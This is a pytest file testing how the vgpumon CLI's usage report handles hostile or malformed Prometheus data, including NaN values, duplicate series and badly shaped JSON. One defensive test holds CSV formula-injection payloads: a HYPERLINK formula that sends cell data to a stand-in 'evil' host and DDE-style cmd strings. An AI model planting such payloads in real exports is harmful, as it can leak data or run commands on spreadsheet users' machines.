"""``vgpumon usage`` with what Prometheus or its label values may hold (issue 33, finding 7):
formulas in names, series that share a row, NaN, answers of the wrong shape or size."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator

import pytest
from prometheus_helpers import PrometheusStandIn

from vgpumon.cli import main

RANGE = ["--from", "2026-11-01", "--to", "2026-11-02"]


@pytest.fixture
def prom() -> Iterator[PrometheusStandIn]:
    with PrometheusStandIn() as stand_in:
        yield stand_in


def _gpu_hours_only(pairs: list[tuple[dict[str, str], str]]) -> object:
    return lambda promql: pairs if "gpu_hours" in promql else []


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://evil/?"&A1,"invoice")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|x", "-2+3"],
)
def test_csv_cells_that_a_spreadsheet_would_run_stay_text(
    prom: PrometheusStandIn, name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    prom.vector = _gpu_hours_only([({"tenant": name}, "1.5")])
    assert main(["usage", "--prometheus", prom.url, *RANGE, "--csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[1][2] == "'" + name  # OWASP: a leading quote, and the cell quoted where needed
    assert rows[1][3] == "1.5"


def test_series_of_one_row_add_up(
    prom: PrometheusStandIn, capsys: pytest.CaptureFixture[str]
) -> None:
    """Two clusters' series for tenant acme (labels outside the grouping differ): 10 + 2.5
    GPU-hours, not whichever came last."""
    prom.vector = _gpu_hours_only(
        [
            ({"tenant": "acme", "cluster": "a"}, "10"),
            ({"tenant": "acme", "cluster": "b"}, "2.5"),
            ({"tenant": "beta"}, "1"),
        ]
    )
    assert main(["usage", "--prometheus", prom.url, *RANGE, "--json"]) == 0
    rows = json.loads(capsys.readouterr().out)["rows"]
    assert rows[0] == {"tenant": "acme", "gpu_hours": 12.5}
    assert main(["usage", "--prometheus", prom.url, *RANGE]) == 0
    total = capsys.readouterr().out.splitlines()[-1].split()
    assert total[:2] == ["total", "13.500"]


def test_nan_is_left_out_and_said(
    prom: PrometheusStandIn, capsys: pytest.CaptureFixture[str]
) -> None:
    prom.vector = _gpu_hours_only([({"tenant": "acme"}, "NaN"), ({"tenant": "beta"}, "2")])
    assert main(["usage", "--prometheus", prom.url, *RANGE]) == 0
    captured = capsys.readouterr()
    assert "nan" not in captured.out.lower().split()
    assert captured.out.splitlines()[-1].split()[:2] == ["total", "2.000"]
    assert "1 value(s) Prometheus gave as NaN" in captured.err
    assert main(["usage", "--prometheus", prom.url, *RANGE, "--json"]) == 0
    out = capsys.readouterr().out
    doc = json.loads(out, parse_constant=lambda c: pytest.fail(f"{c} in the JSON"))
    assert doc["rows"][0] == {"tenant": "beta", "gpu_hours": 2.0}
    assert main(["usage", "--prometheus", prom.url, *RANGE, "--csv"]) == 0
    assert "nan" not in capsys.readouterr().out.lower().replace("tenant", "")


@pytest.mark.parametrize(
    "raw",
    [
        b'{"status":"success","data":{"result":[{"metric":{"tenant":"a"}}]}}',
        b'{"status":"success","data":{"result":[{"metric":{},"value":"1"}]}}',
        b'{"status":"success","data":{"result":[["a",1]]}}',
        b'{"status":"success","data":{"result":{"a":1}}}',
        b'{"status":"success","data":[]}',
        b'{"status":"success","data":{"result":[{"metric":"x","value":[1,"2"]}]}}',
        b'{"status":"success","data":{"result":[{"metric":{},"value":[1,"two"]}]}}',
        b"[" * 100_000 + b"]" * 100_000,
    ],
    ids=[
        "no value",
        "value not a pair",
        "series a list",
        "result a map",
        "data a list",
        "metric not a map",
        "value not a number",
        "nested too deep",
    ],
)
def test_a_wrongly_shaped_answer_is_one_line(
    prom: PrometheusStandIn, raw: bytes, capsys: pytest.CaptureFixture[str]
) -> None:
    prom.raw = raw
    assert main(["usage", "--prometheus", prom.url, *RANGE]) != 0
    err = capsys.readouterr().err
    assert err.startswith("vgpumon: ") and err.count("\n") == 1 and "Traceback" not in err


def test_an_answer_over_the_cap_is_refused(
    prom: PrometheusStandIn, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from vgpumon.sources import promapi

    monkeypatch.setattr(promapi, "MAX_ANSWER_BYTES", 10_000)
    prom.raw = b'{"status":"success","data":{"result":[' + b" " * 100_000 + b"]}}"
    assert main(["usage", "--prometheus", prom.url, *RANGE]) != 0
    err = capsys.readouterr().err
    assert "larger than" in err and err.count("\n") == 1
